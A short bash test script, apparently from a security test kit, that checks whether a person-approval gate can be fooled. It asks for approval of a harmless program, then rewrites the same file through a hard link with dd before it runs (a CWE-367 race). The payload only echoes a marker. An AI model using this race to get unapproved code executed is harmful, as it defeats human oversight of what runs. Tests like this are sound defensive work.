#!/usr/bin/bash
# tries: to have a person approve a harmless program of its own, and to write another into the same file meanwhile
# works: who is asked reads what stands in the file then; the file stays the same file
# see: CWE-367; CVE-2019-5736 (a program that is written while it is started)
# goal: run
# first: mkdir -p "$WORK/asked"; printf '#!/usr/bin/bash\necho harmless\n' >"$WORK/asked/program"; chmod 755 "$WORK/asked/program"; chown -R dev "$WORK/asked"; ln "$WORK/asked/program" "$WORK/draft"; . "$KIT/attacks/approver.sh"; look() { ids=$(holds_of "$WORK/asked/program"); test -n "$ids" && grep -q harmless "$WORK/asked/program" && touch "$WORK/seen" && while grep -q harmless "$WORK/asked/program"; do sleep 0.05; done && approve $ids; }; meanwhile look
# note: nobody is asked about writing `draft`, which is the same file: what is approved has been rewritten by then
"$WORK/asked/program" &
first=$!
for turn in {1..40}; do
	[ -e "$WORK/seen" ] || ! kill -0 $first 2>/dev/null && break
	sleep 0.05
done
for ((at = ${#MARK} - 1; at >= 0; at--)); do
	text+=${MARK:at:1}
done
printf '#!/usr/bin/bash\necho %s\nexit\n' "$text" | dd of="$WORK/draft" conv=notrunc status=none
wait
"$WORK/asked/program"
